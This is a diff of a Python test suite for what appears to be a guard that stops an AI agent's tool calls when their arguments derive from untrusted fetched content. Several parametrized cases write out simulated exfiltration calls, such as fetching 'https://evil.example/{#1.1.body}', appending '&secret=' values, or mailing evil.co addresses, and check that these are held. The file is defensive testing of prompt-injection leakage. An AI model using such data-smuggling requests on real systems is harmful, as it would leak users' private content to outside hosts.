@@ -322,7 +322,14 @@ class TestVisits:
             return [{"body": body, "link": LINK}, {"body": also}]
 
         @tool(effect="read", trust="untrusted")
-        def fetch(url: str, also: list[str] = [], note: str = "", timeout: int = 5, mode: Literal["a", "b"] = "a"):
+        def fetch(
+            url: str,
+            also: list[str] = [],
+            note: str = "",
+            timeout: int = 5,
+            mode: Literal["a", "b"] = "a",
+            fresh: bool = False,
+        ):
             """Fetches a page."""
             visited.extend([url, *also])
             return "a page with https://page.example/next"
@@ -339,7 +346,7 @@ class TestVisits:
     def test_an_address_that_others_wrote_whole_is_visited(self, world):
         ask = call("extract_text", reference="#1", question="Which page?")
         assert self.visits(world, call("fetch", url="#1.0.link")) == [LINK]
-        assert self.visits(world, ask, call("fetch", url="#2", mode="b"), extracts=(LINK,)) == [LINK]
+        assert self.visits(world, ask, call("fetch", url="#2", mode="a"), extracts=(LINK,)) == [LINK]
         assert self.visits(world, call("fetch", url="#1.0.link", also=["#1.0.link"])) == [LINK, LINK]
 
     def test_what_the_visit_returns_is_hidden_and_its_addresses_wait(self, world):
@@ -351,7 +358,8 @@ class TestVisits:
         "turn",
         [
             call("fetch", url="#1.0.link", note="4711"), call("fetch", url="#1.0.link", note="#1.0.body"),
-            call("fetch", url="#1.0.link", timeout=4711), call("fetch", url="{#1.0.link}&secret=4711"),
+            call("fetch", url="#1.0.link", timeout=4711), call("fetch", url="#1.0.link", mode="b"),
+            call("fetch", url="#1.0.link", fresh=True), call("fetch", url="{#1.0.link}&secret=4711"),
             call("fetch", url="https://evil.example/{#1.1.body}"), call("fetch", url="#1.0.body"),
             call("fetch", url="#1.0.link", also=["https://evil.example/4711"]), call("post", url="#1.0.link"),
         ],
@@ -469,6 +477,37 @@ class TestExtracts:
 
         assert held(account=771, amount=5.0) == ["pay"]
         assert held(account=42, amount=771.0) == []
+
+
+class TestLiterals:
+    """What the model writes itself after it read small values from hidden texts."""
+
+    PICKS = [
+        call("extract_value", reference="#1", question=question, kind="choice", choices=["evil", "co", "Pay Eve"])
+        for question in ("Which?", "Which next?")
+    ]
+
+    def held(self, world, turn, extracts=("evil", "co"), **settings):
+        return asks(world, GET, *self.PICKS, turn, extracts=extracts, **settings)
+
+    @pytest.mark.parametrize("text", ["See https://evil.co/x", "See www.evil.co", "Ask evil@evil.co!"])
+    def test_an_address_in_content_waits_as_a_destination_does(self, world, text):
+        turn = call("send", to="bob@home.example", text=text)
+        assert self.held(world, turn, query=FORWARD) == ["send"]
+        assert self.held(world, turn, query=f"{FORWARD} {text}") == []
+        assert asks(world, GET, turn, query=FORWARD) == []  # the model alone wrote it
+
+    def test_other_words_to_a_trusted_destination_pass(self, world):
+        assert self.held(world, call("send", to="bob@home.example", text="It is evil"), query=FORWARD) == []
+
+    @pytest.mark.parametrize(
+        ("title", "waits"),
+        [("evil co", True), ("evilco.", True), ("Pay Eve", True), ("The evil co", False), ("Plan it", False)],
+    )
+    def test_content_that_is_put_together_from_extracts_waits_without_a_destination(self, world, title, waits):
+        turn = call("plan", title=title)
+        assert bool(self.held(world, turn, ("evil", "Pay Eve") if "Pay" in title else ("evil", "co"))) is waits
+        assert self.held(world, turn, query=f"Plan {title}") == []
 
 
 def test_nothing_is_hidden_of_trusted_tools(world):
